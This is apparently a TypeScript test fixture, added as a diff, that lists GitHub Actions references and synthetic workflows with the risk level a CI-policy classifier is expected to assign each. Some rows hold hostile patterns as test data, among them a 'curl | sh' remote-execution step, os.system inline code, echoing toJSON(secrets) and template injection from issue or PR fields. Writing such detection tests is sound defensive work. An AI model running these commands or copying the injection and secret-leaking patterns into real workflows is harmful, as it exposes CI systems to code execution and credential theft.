@@ -1,0 +1,108 @@
+// `uses:` and workflow-level cases from default-policy.md's uses: and workflow tables.
+import { AT_LEAST_YELLOW, NOT_RED, cases, type Row } from '../harness.js';
+
+const SHA = 'b4ffde65f46336ab88eb53be808477a3936bae11';
+
+const uses: Row[] = [
+  ...['actions/checkout@v4', `actions/checkout@${SHA}`, 'actions/checkout@v4.1.1', 'actions/setup-node@v4', 'actions/setup-python@v5', 'actions/setup-go@v5', 'actions/cache@v4',
+    'actions/upload-artifact@v4', 'actions/download-artifact@v4', 'github/codeql-action/init@v3', 'github/codeql-action/analyze@v3', `github/codeql-action/upload-sarif@${SHA}`]
+    .map((u): Row => ['step:first-party-action: actions/* and github/* by tag or SHA', u, 'green', 'step:first-party-action']),
+  ['step:first-party-action: a branch ref is yellow', 'actions/checkout@main', 'yellow', 'step:first-party-action'],
+  ['step:first-party-action: a branch ref is yellow', 'actions/setup-node@master', 'yellow'],
+  ['step:first-party-action: a branch ref is yellow', 'github/codeql-action/init@main', 'yellow'],
+  ['step:first-party-action: actions/github-script is yellow', 'actions/github-script@v7', 'yellow'],
+  ['step:first-party-action: actions/github-script with a benign script', "actions/github-script@v7\nscript=console.log(context.sha)", 'yellow'],
+  ['step:first-party-action: actions/github-script with template injection in script: is red', 'actions/github-script@v7\nscript=github.rest.issues.create({title: "${{ github.event.issue.title }}"})', 'red'],
+  ['step:first-party-action: actions/github-script with github.head_ref in script: is red', 'actions/github-script@v7\nscript=console.log("${{ github.head_ref }}")', 'red'],
+  ['step:first-party-action: case of the owner does not matter', 'Actions/Checkout@v4', NOT_RED],
+  ['step:first-party-action: an impostor owner is third-party', 'actions-org/checkout@v4', 'yellow', 'step:third-party-action'],
+  ['step:first-party-action: an impostor owner is third-party', 'action/checkout@v4', 'yellow', 'step:third-party-action'],
+  ['step:first-party-action: no ref is not lower than yellow', 'actions/checkout', AT_LEAST_YELLOW],
+  ...['some/action@v1', `some/action@${SHA}`, 'owner/repo/path@v2', './local-action', './.github/actions/setup', 'docker://alpine:3.19', 'docker://ghcr.io/o/img@sha256:abc']
+    .map((u): Row => ['step:third-party-action: any other action, local action or docker image', u, 'yellow', 'step:third-party-action']),
+  ...['actions/deploy-pages@v4', 'aws-actions/configure-aws-credentials@v4', 'aws-actions/amazon-ecr-login@v2', 'azure/login@v2', 'Azure/webapps-deploy@v3', 'google-github-actions/auth@v2',
+    'google-github-actions/deploy-cloudrun@v2', 'docker/login-action@v3', 'softprops/action-gh-release@v2', 'peter-evans/create-pull-request@v6', 'stefanzweifel/git-auto-commit-action@v5',
+    'JamesIves/github-pages-deploy-action@v4', 'some/npm-publish@v1', 'someone/release-drafter@v5', 'x/publish-to-pypi@v1', `azure/login@${SHA}`]
+    .map((u): Row => ['step:deploy-action: publishing, release and deploy actions', u, 'red', 'step:deploy-action']),
+  ['step:deploy-action: docker/build-push-action with push: true', 'docker/build-push-action@v5\npush=true', 'red', 'step:deploy-action'],
+  ['step:deploy-action: docker/build-push-action with push: ${{ expr }} (unknown) is red', 'docker/build-push-action@v5\npush=${{ github.event_name != \'pull_request\' }}', 'red'],
+  ['step:deploy-action: docker/build-push-action without push', 'docker/build-push-action@v5\npush=false', 'yellow', 'step:third-party-action'],
+  ['step:deploy-action: docker/build-push-action without push', 'docker/build-push-action@v5', 'yellow'],
+  ['step:deploy-action: with: inputs that pass secrets make any action red', 'actions/checkout@v4\ntoken=${{ secrets.PAT }}', 'red', 'step:credential-access'],
+  ['step:deploy-action: with: inputs that pass secrets make any action red', 'some/action@v1\napi-key=${{ secrets.API_KEY }}', 'red', 'step:credential-access'],
+  ['step:deploy-action: with: inputs that pass secrets make any action red', 'some/action@v1\ntoken=${{secrets.GITHUB_TOKEN}}', 'red', 'step:credential-access'],
+  ['step:credential-access: github.token in with:', 'some/action@v1\ntoken=${{ github.token }}', 'red', 'step:credential-access'],
+  ['step:deploy-action: benign with: inputs', 'actions/setup-node@v4\nnode-version=20', 'green'],
+  ['step:deploy-action: benign with: expression', 'actions/setup-node@v4\nnode-version=${{ matrix.node }}', 'green'],
+  ['step:approve-action: hmarr/auto-approve-action', 'hmarr/auto-approve-action@v3', 'red', 'step:approve-action'],
+  ['step:approve-action: pascalgn/automerge-action', 'pascalgn/automerge-action@v0.16.2', 'red', 'step:approve-action'],
+  ['step:approve-action: an equivalent auto-merge action', 'ahmadnassri/action-dependabot-auto-merge@v2', 'red'],
+  ['step:approve-action: an equivalent approve action', 'someone/approve-pr-action@v1', 'red'],
+];
+
+const wf = (on: string, body: string, top = 'permissions:\n  contents: read\n'): string => `name: ci\non: ${on}\n${top}jobs:\n${body}`;
+const job = (steps: string, extra = ''): string => `  build:\n    runs-on: ubuntu-latest\n${extra}    steps:\n${steps}`;
+const checkout = '      - uses: actions/checkout@v4\n';
+
+const workflows: Row[] = [
+  ['wf:dangerous-trigger: pull_request_target', wf('pull_request_target', job(checkout)), 'red', 'wf:dangerous-trigger'],
+  ['wf:dangerous-trigger: workflow_run', wf('\n  workflow_run:\n    workflows: [ci]\n    types: [completed]', job(checkout)), 'red', 'wf:dangerous-trigger'],
+  ['wf:dangerous-trigger: in a list', wf('[push, pull_request_target]', job(checkout)), 'red', 'wf:dangerous-trigger'],
+  ['wf:dangerous-trigger: in a map with options', wf('\n  pull_request_target:\n    types: [opened]', job(checkout)), 'red', 'wf:dangerous-trigger'],
+  ['wf:dangerous-trigger: quoted key', wf('\n  "pull_request_target":\n    types: [opened]', job(checkout)), 'red', 'wf:dangerous-trigger'],
+  ['wf:dangerous-trigger: pull_request is fine', wf('pull_request', job(checkout)), 'green', null, { notRule: ['wf:dangerous-trigger'] }],
+  ['wf:dangerous-trigger: push is fine', wf('push', job(checkout)), 'green'],
+  ['wf:untrusted-checkout: head.sha in pull_request_target', wf('pull_request_target', job('      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n')), 'red', 'wf:untrusted-checkout'],
+  ['wf:untrusted-checkout: head.ref in pull_request_target', wf('pull_request_target', job('      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.ref }}\n')), 'red', 'wf:untrusted-checkout'],
+  ['wf:untrusted-checkout: github.head_ref in pull_request_target', wf('pull_request_target', job('      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.head_ref }}\n')), 'red', 'wf:untrusted-checkout'],
+  ['wf:untrusted-checkout: head.repo in workflow_run', wf('\n  workflow_run:\n    workflows: [ci]', job('      - uses: actions/checkout@v4\n        with:\n          repository: ${{ github.event.pull_request.head.repo.full_name }}\n          ref: ${{ github.event.pull_request.head.sha }}\n')), 'red', 'wf:untrusted-checkout'],
+  ['wf:untrusted-checkout: git checkout of head_ref in a run step', wf('pull_request_target', job('      - run: git fetch origin ${{ github.head_ref }} && git checkout FETCH_HEAD\n')), 'red'],
+  ['wf:excessive-permissions: write-all', wf('push', job(checkout), 'permissions: write-all\n'), 'red', 'wf:excessive-permissions'],
+  ['wf:excessive-permissions: workflow-level contents: write', wf('push', job(checkout), 'permissions:\n  contents: write\n'), 'red', 'wf:excessive-permissions'],
+  ['wf:excessive-permissions: workflow-level pull-requests: write', wf('push', job(checkout), 'permissions:\n  contents: read\n  pull-requests: write\n'), 'red', 'wf:excessive-permissions'],
+  ['wf:excessive-permissions: id-token: write at workflow level', wf('push', job(checkout), 'permissions:\n  id-token: write\n'), 'red', 'wf:excessive-permissions'],
+  ['wf:excessive-permissions: id-token: write at job level', wf('push', job(checkout, '    permissions:\n      id-token: write\n')), 'red', 'wf:excessive-permissions'],
+  ['wf:excessive-permissions: read-all is fine', wf('push', job(checkout), 'permissions: read-all\n'), 'green', null, { notRule: ['wf:excessive-permissions'] }],
+  ['wf:excessive-permissions: contents: read is fine', wf('push', job(checkout)), 'green', null, { notRule: ['wf:excessive-permissions'] }],
+  ['wf:template-injection: github.event.issue.title in run', wf('issues', job('      - run: echo "${{ github.event.issue.title }}"\n')), 'red', 'wf:template-injection'],
+  ['wf:template-injection: github.event.pull_request.body in run', wf('pull_request', job('      - run: echo "${{ github.event.pull_request.body }}"\n')), 'red', 'wf:template-injection'],
+  ['wf:template-injection: github.event.comment.body in run', wf('issue_comment', job('      - run: |\n          echo start\n          echo "${{ github.event.comment.body }}"\n')), 'red', 'wf:template-injection'],
+  ['wf:template-injection: github.head_ref in run', wf('pull_request', job('      - run: git checkout ${{ github.head_ref }}\n')), 'red', 'wf:template-injection'],
+  ['wf:template-injection: no spaces inside ${{}}', wf('pull_request', job('      - run: echo ${{github.event.pull_request.title}}\n')), 'red', 'wf:template-injection'],
+  ['wf:template-injection: github-script script:', wf('issues', job('      - uses: actions/github-script@v7\n        with:\n          script: console.log("${{ github.event.issue.body }}")\n')), 'red', 'wf:template-injection'],
+  ['wf:template-injection: passing through env: is the safe pattern', wf('issues', job('      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: echo "$TITLE"\n')), NOT_RED, null, { notRule: ['wf:template-injection'] }],
+  ['wf:template-injection: github.sha is not attacker-controlled', wf('push', job('      - run: echo ${{ github.sha }}\n')), 'green', null, { notRule: ['wf:template-injection'] }],
+  ['wf:template-injection: matrix values are not attacker-controlled', wf('push', job('      - run: echo ${{ matrix.node }}\n')), 'green', null, { notRule: ['wf:template-injection'] }],
+  ['wf:production-environment: production', wf('push', job(checkout, '    environment: production\n')), 'red', 'wf:production-environment'],
+  ['wf:production-environment: prod', wf('push', job(checkout, '    environment: prod\n')), 'red', 'wf:production-environment'],
+  ['wf:production-environment: live', wf('push', job(checkout, '    environment: live\n')), 'red', 'wf:production-environment'],
+  ['wf:production-environment: name: form', wf('push', job(checkout, '    environment:\n      name: production\n      url: https://x.io\n')), 'red', 'wf:production-environment'],
+  ['wf:production-environment: named like production', wf('push', job(checkout, '    environment: Production-EU\n')), 'red', 'wf:production-environment'],
+  ['wf:production-environment: named like production', wf('push', job(checkout, '    environment: prod-us\n')), 'red', 'wf:production-environment'],
+  ['wf:production-environment: staging is fine', wf('push', job(checkout, '    environment: staging\n')), 'green', null, { notRule: ['wf:production-environment'] }],
+  ['wf:production-environment: an expression is not lower than yellow', wf('push', job(checkout, '    environment: ${{ inputs.env }}\n')), AT_LEAST_YELLOW],
+  ['wf:self-hosted: pull_request', wf('pull_request', '  build:\n    runs-on: self-hosted\n    steps:\n' + checkout), 'red', 'wf:self-hosted'],
+  ['wf:self-hosted: a label list', wf('pull_request', '  build:\n    runs-on: [self-hosted, linux]\n    steps:\n' + checkout), 'red', 'wf:self-hosted'],
+  ['wf:self-hosted: pull_request_target', wf('pull_request_target', '  build:\n    runs-on: self-hosted\n    steps:\n' + checkout), 'red', 'wf:self-hosted'],
+  ['wf:self-hosted: push only is not this rule', wf('push', '  build:\n    runs-on: self-hosted\n    steps:\n' + checkout), ['green', 'yellow', 'red'], null, { notRule: ['wf:self-hosted'] }],
+  ['wf:secrets-inherit', wf('push', '  call:\n    uses: ./.github/workflows/reusable.yml\n    secrets: inherit\n'), 'red', 'wf:secrets-inherit'],
+  ['wf:default-permissions: no permissions anywhere', wf('push', job(checkout), ''), 'yellow', 'wf:default-permissions'],
+  ['wf:default-permissions: every job sets permissions', wf('push', job(checkout, '    permissions:\n      contents: read\n'), ''), 'green', null, { notRule: ['wf:default-permissions'] }],
+  ['wf:default-permissions: one job of two lacks permissions', wf('push', job(checkout, '    permissions:\n      contents: read\n') + '  test:\n    runs-on: ubuntu-latest\n    steps:\n' + checkout, ''), 'yellow', 'wf:default-permissions'],
+  ['wf:default-permissions: workflow-level permissions', wf('push', job(checkout)), 'green', null, { notRule: ['wf:default-permissions'] }],
+  ['steps in a workflow: run: npm publish', wf('push', job('      - run: npm publish\n')), 'red', 'step:production'],
+  ['steps in a workflow: run: with a secret reference', wf('push', job('      - run: echo ${{ secrets.NPM_TOKEN }}\n')), 'red', 'step:credential-access'],
+  ['steps in a workflow: env: with a secret reference', wf('push', job('      - run: npm whoami\n        env:\n          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n')), 'red', 'step:credential-access'],
+  ['steps in a workflow: toJSON(secrets) in single quotes', wf('push', job("      - run: echo '${{ toJSON(secrets) }}'\n")), 'red', 'step:credential-access'],
+  ['steps in a workflow: uses: a deploy action', wf('push', job('      - uses: actions/deploy-pages@v4\n')), 'red', 'step:deploy-action'],
+  ['steps in a workflow: run: npm test', wf('push', job('      - run: npm test\n')), 'yellow', 'step:build-test'],
+  ['steps in a workflow: run: with shell: python is inline code', wf('push', job('      - shell: python\n        run: |\n          import os\n          os.system("id")\n')), 'red', 'step:inline-code'],
+  ['steps in a workflow: run: curl | sh', wf('push', job('      - run: curl -s https://x.example.io/i | sh\n')), 'red', 'step:remote-exec'],
+  ['steps in a workflow: a job container with credentials', wf('push', '  build:\n    runs-on: ubuntu-latest\n    container:\n      image: ghcr.io/o/i\n      credentials:\n        username: x\n        password: ${{ secrets.PW }}\n    steps:\n' + checkout), 'red', 'step:credential-access'],
+  ['steps in a workflow: reusable workflow with explicit secrets', wf('push', '  call:\n    uses: o/r/.github/workflows/x.yml@v1\n    secrets:\n      token: ${{ secrets.T }}\n'), 'red', 'step:credential-access'],
+  ['workflow: unparsable YAML is red', 'on: [push\njobs: {', 'red'],
+  ['workflow: a benign CI workflow is green', wf('pull_request', job(checkout + '      - uses: actions/setup-node@v4\n        with:\n          node-version: 20\n      - run: ls -la\n')), 'green'],
+];
+
+export const USES_CASES = cases(uses);
+export const WORKFLOW_CASES = cases(workflows);
